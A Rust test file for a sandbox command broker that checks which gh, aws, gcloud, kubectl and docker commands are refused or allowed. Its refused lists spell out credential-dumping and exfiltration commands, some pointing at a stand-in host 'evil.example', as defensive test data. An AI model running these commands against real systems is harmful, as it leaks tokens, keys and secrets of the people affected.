//! Tests the broker over real sockets, with scripts in place of the programs, and the lists of what is never brokered.

use std::ffi::OsString;
use std::io;
use std::net::{SocketAddr, TcpListener};
use std::os::fd::{AsFd, OwnedFd};
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::sync::atomic::{AtomicU32, Ordering};
use std::sync::{Arc, mpsc};
use std::time::{Duration, Instant};

use rustix::event::{PollFd, PollFlags, poll};
use weir_core::run::Stream;

use super::{Broker, Call, Grant, Sink, Token, call, check, deny, serve};

fn words(line: &str) -> Vec<OsString> {
    line.split(' ').map(OsString::from).collect()
}

/// Runs the script with the program's name in this folder, with a secret that the sandbox must not see.
#[expect(clippy::disallowed_methods, reason = "the test stands in for the runner")]
fn outside(folder: &Path, call: &Call<'_>, sink: &mut Sink<'_>) -> io::Result<i32> {
    let mut command = std::process::Command::new(folder.join(&call.argv[0]));
    let output =
        command.args(&call.argv[1..]).env_clear().env("PATH", "/usr/bin:/bin").env("SECRET", "s3cret").output()?;
    sink(Stream::Out, &output.stdout)?;
    sink(Stream::Err, &output.stderr)?;
    Ok(output.status.code().unwrap_or(-1))
}

struct TestBroker {
    _broker: Broker,
    address: SocketAddr,
    token: Token,
    ran: Arc<AtomicU32>,
    _folder: tempfile::TempDir,
}

fn test_broker(granted: &str, uses: u32) -> TestBroker {
    let folder = tempfile::tempdir().unwrap();
    for program in super::programs() {
        let path = folder.path().join(program);
        std::fs::write(
            &path,
            "#!/bin/sh\necho \"$0 $* ${SECRET:+has a secret}\" | sed 's,.*/,,'\necho oops >&2\nexit 3\n",
        )
        .unwrap();
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    let token = Token::random().unwrap();
    let ran = Arc::new(AtomicU32::new(0));
    let (path, counter) = (folder.path().to_owned(), Arc::clone(&ran));
    let grant = Grant { token: token.clone(), argv: words(granted), uses, more: 0 };
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    let broker = serve(OwnedFd::from(listener), grant, move |call, sink| {
        counter.fetch_add(1, Ordering::SeqCst);
        outside(&path, call, sink)
    });
    TestBroker { _broker: broker.unwrap(), address, token, ran, _folder: folder }
}

impl TestBroker {
    /// Returns the exit code and the output of both streams.
    fn ask(&self, token: &str, argv: &[OsString]) -> (i32, String, String) {
        let (mut stdout, mut stderr) = (Vec::new(), Vec::new());
        let code = call(self.address, token.as_ref(), argv, &mut stdout, &mut stderr).unwrap();
        (code, String::from_utf8(stdout).unwrap(), String::from_utf8(stderr).unwrap())
    }

    fn refuses(&self, line: &str, why: &str) {
        let before = self.ran.load(Ordering::SeqCst);
        let (code, stdout, stderr) = self.ask(&self.token.to_text(), &words(line));
        assert_eq!((code, stdout.as_str()), (126, ""), "{line}");
        assert!(stderr.contains("was not run: ") && stderr.contains(why), "{line} should say `{why}`: {stderr}");
        assert_eq!(self.ran.load(Ordering::SeqCst), before, "{line}");
    }
}

#[test]
fn the_granted_command_runs_outside() {
    let test_broker = test_broker("gh pr list --limit 5", 2);
    let expected = (3, "gh pr list --limit 5 has a secret\n".to_owned(), "oops\n".to_owned());
    for _ in 0..2 {
        assert_eq!(test_broker.ask(&test_broker.token.to_text(), &words("gh pr list --limit 5")), expected);
    }
    test_broker.refuses("gh pr list --limit 5", "as often as allowed");
}

#[test]
fn one_word_that_differs_is_refused() {
    let test_broker = test_broker("gh pr list --limit 5", 9);
    for line in [
        "gh pr list --limit 6", "gh pr list --limit", "gh pr list --limit 5 ", "gh pr list --limit 5 --state all",
        "gh pr list --limit=5", "gh issue list --limit 5",
    ] {
        test_broker.refuses(line, "word for word");
    }
    test_broker.refuses("/usr/bin/gh pr list --limit 5", "is not a brokered program");
    test_broker.refuses("rm -rf x", "is not a brokered program");
    assert_eq!(test_broker.ask(&test_broker.token.to_text(), &[]).0, 126);
}

#[test]
fn a_wrong_token_is_refused() {
    let test_broker = test_broker("gh pr list", 9);
    let right = test_broker.token.to_text();
    let wrong = Token::random().unwrap().to_text();
    for token in [wrong.as_str(), "", &right[..63], &format!("{right}0"), &right.to_uppercase()] {
        if token == right {
            continue;
        }
        let (code, stdout, stderr) = test_broker.ask(token, &words("gh pr list"));
        assert_eq!((code, stdout.as_str()), (126, ""));
        assert!(stderr.contains("the token does not belong to this run"), "{stderr}");
    }
    assert_eq!(test_broker.ran.load(Ordering::SeqCst), 0);
    assert!(!format!("{:?}", test_broker.token).contains(&right));
}

/// Escapes 52 and 53: a command that a shell hides from every parser still arrives here as plain words, and it does not
/// run even if the policy grants it.
#[test]
fn what_is_never_brokered_is_refused_even_when_granted() {
    for line in ["gh auth token", "docker run -v /:/h alpine cat /h/etc/shadow"] {
        test_broker(line, 9).refuses(line, "never brokered");
        test_broker("gh pr list", 9).refuses(line, "never brokered");
    }
}

#[test]
fn garbage_gets_no_answer() {
    use std::io::{Read, Write};
    let test_broker = test_broker("gh pr list", 9);
    for bytes in [b"GET / HTTP/1.1\r\n\r\n".as_slice(), &[0, 0, 0, 0], &[0, 0, 0, 4, 0, 0, 1, 0], &[255; 64]] {
        let mut stream = std::net::TcpStream::connect(test_broker.address).unwrap();
        stream.write_all(bytes).unwrap();
        let mut answer = Vec::new();
        let _ = stream.read_to_end(&mut answer);
        assert!(answer.is_empty());
    }
    assert_eq!(test_broker.ran.load(Ordering::SeqCst), 0);
}

#[test]
fn output_comes_as_it_is_printed_and_big_output_comes_whole() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    let token = Token::random().unwrap();
    let grant = Grant { token: token.clone(), argv: words("docker ps"), uses: 1, more: 0 };
    let _broker = serve(OwnedFd::from(listener), grant, |_, sink| {
        sink(Stream::Out, &vec![b'x'; 5 << 20])?;
        sink(Stream::Err, b"")?;
        Ok(-7)
    });
    let (mut stdout, mut stderr) = (Vec::new(), Vec::new());
    let code = call(address, token.to_text().as_ref(), &words("docker ps"), &mut stdout, &mut stderr).unwrap();
    assert_eq!((code, stdout.len(), stderr.len()), (-7, 5 << 20, 0));
}

#[test]
fn dropping_it_ends_what_it_runs() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    let token = Token::random().unwrap();
    let grant = Grant { token: token.clone(), argv: words("docker events"), uses: 1, more: 0 };
    let (begun, has_begun) = mpsc::channel();
    let broker = serve(OwnedFd::from(listener), grant, move |call, _| {
        begun.send(()).unwrap();
        // A program that prints nothing and ends only when stopped.
        poll(&mut [PollFd::from_borrowed_fd(call.stopper.as_fd(), PollFlags::IN)], None)?;
        Err(io::ErrorKind::Interrupted.into())
    });
    let asking = std::thread::spawn(move || {
        let token = token.to_text();
        call(address, token.as_ref(), &words("docker events"), &mut io::sink(), &mut io::sink())
    });
    has_begun.recv().unwrap();
    let begun = Instant::now();
    drop(broker);
    assert!(begun.elapsed() < Duration::from_secs(1));
    assert_eq!(asking.join().unwrap().unwrap_or(126), 126);
    assert!(std::net::TcpStream::connect(address).is_err());
}

fn refused(lines: &str) {
    for line in lines.lines().map(str::trim).filter(|line| !line.is_empty()) {
        let words = words(line);
        let checked = check(words[0].to_str().unwrap(), &words[1..]);
        assert!(checked.is_err(), "should be refused: {line}");
    }
}

fn allowed(lines: &str) {
    for line in lines.lines().map(str::trim).filter(|line| !line.is_empty()) {
        let words = words(line);
        let checked = check(words[0].to_str().unwrap(), &words[1..]);
        assert_eq!(checked, Ok(()), "should be allowed: {line}");
    }
}

#[test]
fn every_line_of_the_lists_is_refused() {
    for (program, said) in deny::every_refusal() {
        let mut line = words(&said);
        // Add an argument, which a complete command may need.
        line.push("x".into());
        assert!(check(program, &line).is_err(), "{program} {said}");
        assert!(check(program, &line[..line.len() - 1]).is_err(), "{program} {said}");
    }
    for (program, option, command) in deny::every_option() {
        for word in [option.to_owned(), format!("{option}=x")] {
            let mut line = words(command);
            line.push(word.into());
            assert!(check(program, &line).is_err(), "{program} {line:?}");
            line.rotate_right(1);
            assert!(check(program, &line).is_err(), "{program} {line:?}");
        }
    }
}

#[test]
fn every_listed_command_is_whole() {
    for (program, command) in deny::every_command() {
        assert_eq!(check(program, &words(command)), Ok(()), "{program} {command}");
    }
}

#[test]
#[expect(clippy::too_many_lines, reason = "a list of commands")]
fn gh() {
    refused(
        "gh auth token
         gh auth login
         gh auth refresh
         gh auth setup-git
         gh auth status --show-token
         gh auth status -t
         gh -R a/b auth token
         gh --repo=a/b auth token
         gh api user
         gh api -X DELETE /repos/a/b
         gh alias set x !sh
         gh extension install a/b
         gh ext exec x
         gh config set pager sh
         gh codespace ssh
         gh cs ssh
         gh ssh-key add k
         gh gpg-key add k
         gh secret set A
         gh my-alias
         gh
         gh pr
         gh --unknown pr list
         gh -- pr list
         gh pr create --fill
         gh pr checkout 5
         gh pr merge 5
         gh repo clone a/b
         gh gist create f
         gh release upload v1 f
         gh workflow run x -F k=@/etc/passwd
         gh issue create --title t --body-file /home/u/.ssh/id_rsa
         gh issue create --title t -F /home/u/.ssh/id_rsa
         gh issue comment 1 -F/home/u/.ssh/id_rsa
         gh pr view 5 --web
         gh pr view -w 5
         gh pr view -cw 5
         gh pr close 5 -d
         gh pr list --json title --jq env
         gh pr list --json title --jq=$ENV.GH_TOKEN
         gh pr list --json title -q .[]|env.GH_TOKEN
         gh pr list --repo evil.example/o/r
         gh pr list -R evil.example/o/r
         gh pr list -Revil.example/o/r
         gh pr list -R=evil.example/o/r
         gh pr list -Revil.example/o=a/b
         gh pr list -éR
         gh pr list -éR o/r/s
         gh --repo evil.example/o/r pr list
         gh --repo=https://evil.example/o/r pr list
         gh pr list --repo ../r
         gh pr list --repo
         gh repo view evil.example/o/r
         gh pr view https://evil.example/o/r/pull/1
         gh pr view http://github.com/o/r/pull/1
         gh run view https://evil.example
         gh pr view https://github.com.evil.example/o/r/pull/1
         gh pr view https://github.com@evil.example/o/r/pull/1
         gh pr view git@evil.example:o/r
         gh issue create --title t --body b -R o/r
         gh issue comment https://github.com/o/r/issues/1 --body b",
    );
    allowed(
        "gh pr list
         gh pr -R owner/name list --limit 5
         gh pr view 5 --comments --json title,body --jq .title
         gh run list -w ci.yml
         gh run view 5 --log-failed
         gh issue create --title t --body b
         gh search code x --owner y
         gh pr view https://github.com/o/r/pull/1
         gh repo view o/r
         gh variable get NAME
         gh --version
         gh status",
    );
}

#[test]
#[expect(clippy::too_many_lines, reason = "a list of commands")]
fn aws() {
    refused(
        "aws configure export-credentials
         aws configure get aws_secret_access_key
         aws configure list
         aws --region eu-west-1 configure export-credentials
         aws sts get-session-token
         aws sts assume-role --role-arn r --role-session-name s
         aws sts get-federation-token --name n
         aws ecr get-login-password
         aws ecr get-authorization-token
         aws secretsmanager get-secret-value --secret-id s
         aws secretsmanager list-secrets
         aws ssm get-parameter --name n --with-decryption
         aws ssm get-parameters --names n
         aws ssm get-parameters-by-path --path /
         aws ssm start-session --target i
         aws eks get-token --cluster-name c
         aws s3 ls --endpoint-url http://evil.example
         aws --endpoint-url=https://evil.example s3 ls
         aws --endpoint evil s3 ls
         aws s3 ls --end evil
         aws s3 ls --profile prod
         aws s3 ls --prof prod
         aws s3 ls --debug
         aws s3 ls --no-verify-ssl
         aws s3 cp s3://b/k -
         aws s3 sync . s3://b
         aws s3 presign s3://b/k
         aws s3api get-object --bucket b --key k out
         aws ec2 describe-instances --filters file:///etc/passwd
         aws ec2 describe-instances --filters=fileb:///etc/passwd
         aws ec2 describe-instances --cli-input-json file://x
         aws storagegateway describe-chap-credentials --target-arn t
         aws lightsail get-instance-access-details --instance-name i
         aws lambda get-function --function-name f
         aws lambda invoke --function-name f out
         aws ec2 run-instances
         aws --unknown s3 ls
         aws ec2 describe-instances --region evil.example.com/
         aws ec2 describe-instances --region x@evil.example#
         aws --region=evil.example/ ec2 describe-instances
         aws ec2 describe-instances --regi evil.example/
         aws ec2 describe-instances --region
         aws ec2 describe-instances --region eu-west-1.evil.example
         aws ec2 describe-instance-attribute --instance-id i --attribute userData
         aws ec2 describe-instance-attribute --instance-id i --attribute=userData
         aws ec2 describe-launch-template-versions --launch-template-id l
         aws lambda list-functions
         aws
         aws s3",
    );
    allowed(
        "aws s3 ls
         aws --region eu-west-1 --output json s3 ls s3://bucket/prefix
         aws sts get-caller-identity
         aws ec2 describe-instances --filters Name=instance-state-name,Values=running
         aws --no-cli-pager ecs list-tasks --cluster c
         aws logs tail /aws/lambda/f --since 1h
         aws ec2 describe-instances --region us-gov-east-1
         aws ec2 describe-instance-attribute --instance-id i --attribute instanceType
         aws --version",
    );
}

#[test]
fn gcloud() {
    refused(
        "gcloud auth print-access-token
         gcloud auth print-identity-token
         gcloud auth application-default print-access-token
         gcloud auth list
         gcloud config list
         gcloud config config-helper --format json
         gcloud compute ssh list
         gcloud compute ssh vm --command id
         gcloud compute scp a vm:b
         gcloud alpha compute ssh vm
         gcloud app instances ssh i
         gcloud cloud-shell ssh
         gcloud secrets versions access latest --secret s
         gcloud secrets list
         gcloud container clusters get-credentials c
         gcloud iam service-accounts keys create k
         gcloud iam service-accounts keys list
         gcloud --project p auth print-access-token
         gcloud compute instances list --impersonate-service-account a
         gcloud compute instances list --impersonate a
         gcloud compute instances list --account a
         gcloud compute instances list --flags-file f
         gcloud compute instances list --log-http
         gcloud compute instances list --verbosity=debug
         gcloud compute instances delete i
         gcloud --unknown compute instances list
         gcloud --project p compute instances describe i --zone z
         gcloud compute --format=json instances list
         gcloud compute instances list --format=value(metadata)
         gcloud compute instances list --form yaml
         gcloud run services describe s
         gcloud compute instances",
    );
    allowed(
        "gcloud compute instances list
         gcloud --project p compute networks describe n
         gcloud compute --format=json networks list --filter status=RUNNING
         gcloud compute instances list --format=table(name,zone)
         gcloud logging read severity>=ERROR --limit 5
         gcloud functions logs read f
         gcloud projects list",
    );
}

#[test]
fn a_call_for_the_version_is_whole_and_a_name_alone_is_not() {
    let wrong = check("aws", &[]).unwrap_err();
    assert_eq!(wrong.why, "`aws` alone is not a complete command");
    assert_eq!(check("gcloud", &words("--version")), Ok(()));
    assert_eq!(check("docker", &words("--version")), Ok(()));
}

#[test]
fn a_region_in_a_variable_is_one_or_is_not_handed_over() {
    assert!(super::may_have("AWS_REGION", "eu-central-1") && super::may_have("AWS_PROFILE", "evil/"));
    assert!(!super::may_have("AWS_DEFAULT_REGION", "evil.example/"));
}

#[test]
fn kubectl() {
    refused(
        "kubectl exec p -- sh
         kubectl -n ns exec p -- sh
         kubectl cp p:/a b
         kubectl attach p
         kubectl port-forward p 80
         kubectl proxy
         kubectl debug p
         kubectl run x --image y
         kubectl config view --raw
         kubectl get secret
         kubectl get secrets
         kubectl get Secrets -A
         kubectl get secret/x -o yaml
         kubectl get secrets/x
         kubectl get pods,secrets
         kubectl get pods/a secret/b
         kubectl get pod a secret b
         kubectl get secrets.v1.
         kubectl get -o yaml secrets
         kubectl -n ns get -ojson secrets
         kubectl --namespace=ns get secret
         kubectl get --raw /api/v1/secrets
         kubectl get --raw=/api/v1/secrets
         kubectl describe secret x
         kubectl get -f http://evil.example/x.yaml
         kubectl get -wf x
         kubectl get -k dir
         kubectl get pods -o go-template-file=/etc/passwd
         kubectl get pods -o templatefile --template /etc/passwd
         kubectl get pods -ojsonpath-file=/etc/passwd",
    );
}

#[test]
fn kubectl_asks_as_the_user_and_reads_only() {
    refused(
        "kubectl --kubeconfig x get pods
         kubectl get pods --kubeconfig=x
         kubectl get pods --server https://evil.example
         kubectl get pods -s https://evil.example
         kubectl --token t get pods
         kubectl --context prod get pods
         kubectl get pods --as root
         kubectl get pods -v=9
         kubectl get pods -v9
         kubectl cluster-info dump
         kubectl create token sa
         kubectl apply -f x
         kubectl delete pod x
         kubectl edit pod x
         kubectl some-plugin
         kubectl --unknown get pods
         kubectl",
    );
    allowed(
        "kubectl get pods
         kubectl -n ns get pods -o wide
         kubectl -n vault get pods,deployments -ojson
         kubectl get pods -nvault
         kubectl get pods -A -l app=x
         kubectl describe pod x
         kubectl logs -f p -c c --tail 100
         kubectl rollout status deploy/x
         kubectl auth can-i get secrets
         kubectl explain secret
         kubectl top pods
         kubectl version",
    );
}

#[test]
fn docker() {
    refused(
        "docker run -v /:/h alpine
         docker container run alpine
         docker exec c sh
         docker cp c:/a b
         docker build .
         docker buildx build .
         docker compose up
         docker login
         docker context use x
         docker save i
         docker export c
         docker commit c
         docker plugin install p
         docker volume create v
         docker system prune
         docker inspect c
         docker container inspect c
         docker -H tcp://evil.example ps
         docker -Htcp://evil.example ps
         docker --host=tcp://evil.example ps
         docker --context x ps
         docker -c x ps
         docker --config d ps
         docker rm c
         docker
         docker container",
    );
    allowed(
        "docker ps -a
         docker images --format json
         docker logs --tail 100 c
         docker container ls
         docker system df
         docker version",
    );
}

/// Measures the overhead of a call over the program itself.
#[test]
fn a_call_costs_little() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    let token = Token::random().unwrap();
    let grant = Grant { token: token.clone(), argv: words("docker ps"), uses: 100, more: 0 };
    let _broker = serve(OwnedFd::from(listener), grant, |_, sink| sink(Stream::Out, b"x").map(|()| 0)).unwrap();
    let token = token.to_text();
    let begun = Instant::now();
    for _ in 0..100 {
        let code = call(address, token.as_ref(), &words("docker ps"), &mut io::sink(), &mut io::sink()).unwrap();
        assert_eq!(code, 0);
    }
    println!("{:?} for a call", begun.elapsed() / 100);
    assert!(begun.elapsed() < Duration::from_secs(5));
}
